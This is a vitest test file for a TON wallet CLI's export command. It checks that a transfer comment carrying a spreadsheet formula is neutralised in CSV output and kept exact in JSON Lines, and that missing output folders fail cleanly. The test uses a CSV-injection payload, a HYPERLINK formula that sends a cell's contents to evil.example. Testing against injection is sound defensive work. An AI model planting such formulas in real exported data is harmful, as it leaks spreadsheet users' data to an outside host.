import { Address, internal } from '@ton/core';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main as cli } from '../../electron/hosts/cli/main';
import { MemoryVault } from '../helpers/memory-vault';
import { readCsv, readJsonl } from '../helpers/export-reference';
import { localNetworkEnv, recordingIo } from '../helpers/cli-io';
import { chainSeqno, demoWallet } from '../helpers/localnet';
import { localNetworkForSuite } from '../helpers/localnet-suite';
import { signTransfer } from '../helpers/sign-transfer';
import { tempDirForSuite } from '../helpers/temp-dir';

/**
 * Exports of hostile on-chain text and careless destinations, through the CLI against the
 * local network: a transfer comment that is a spreadsheet formula is neutralised in CSV and
 * kept exact in JSON Lines; an `--out` whose folder cannot exist fails at once and clearly.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

const ln = localNetworkForSuite({ blockIntervalMs: 300 }, 300_000);
const dir = tempDirForSuite('export-hostile-');

const io = () => recordingIo({ env: localNetworkEnv(ln), vault: new MemoryVault() });

const exportArgs = (format: string, out: string) => [
  '--user-data',
  dir(),
  'export',
  'local',
  '--account',
  demoWallet(ln, 'alice').address,
  '--kind',
  'ton-transfers',
  '--format',
  format,
  '--out',
  out,
];

describe('a formula comment on chain', () => {
  it('is text in the CSV (prefixed with an apostrophe), exact in JSON Lines; amounts stay numbers', async () => {
    const alice = demoWallet(ln, 'alice');
    const { boc } = await signTransfer({
      mnemonic: alice.mnemonic,
      version: 'v4R2',
      seqno: await chainSeqno(ln, alice.address),
      validUntil: Math.floor(Date.now() / 1000) + 600,
      messages: [
        internal({
          to: Address.parse(demoWallet(ln, 'bob').address),
          value: 100_000_000n,
          bounce: false,
          body: FORMULA,
        }),
      ],
    });
    const bocFile = join(dir(), 'formula.boc');
    await writeFile(bocFile, boc);
    const sent = io();
    expect(
      await cli(['--user-data', dir(), 'send', 'local', '--boc', bocFile, '--yes'], sent),
    ).toBe(0);

    const csv = join(dir(), 'alice.csv');
    const run = io();
    expect(await cli(exportArgs('csv', csv), run), run.stderr.join('\n')).toBe(0);
    const rows = await readCsv(csv, { cells: 'as-written' });
    const row = rows.find((r) => r.comment?.includes('HYPERLINK'));
    expect(row?.comment).toBe(`'${FORMULA}`);
    // The outgoing amount is a number (negative or not), never turned into text.
    expect(row?.amount).toMatch(/^-?\d+(\.\d+)?$/);
    expect(rows.every((r) => !/^[=+@\t\r]/.test(r.comment ?? ''))).toBe(true);

    const jsonl = join(dir(), 'alice.jsonl');
    expect(await cli(exportArgs('jsonl', jsonl), io())).toBe(0);
    const exact = (await readJsonl(jsonl)).find((r) => r.comment?.includes('HYPERLINK'));
    expect(exact?.comment).toBe(FORMULA);
  }, 300_000);
});

describe('export --out', () => {
  it('fails at once with a clear error under a folder that cannot be created', async () => {
    const run = io();
    const code = await cli(exportArgs('csv', '/proc/ton-explorer/alice.csv'), run);
    expect(code).toBe(1);
    expect(run.stderr.join('\n')).toMatch(
      /ERROR INVALID_INPUT: .*folder \/proc\/ton-explorer does not exist/,
    );
  }, 60_000);

  it('does not create a missing parent folder; says which one is missing', async () => {
    const missing = join(dir(), 'no-such-folder');
    const run = io();
    const code = await cli(exportArgs('csv', join(missing, 'alice.csv')), run);
    expect(code).toBe(1);
    expect(run.stderr.join('\n')).toContain(`folder ${missing} does not exist`);
    expect(existsSync(missing)).toBe(false);
  }, 60_000);
});
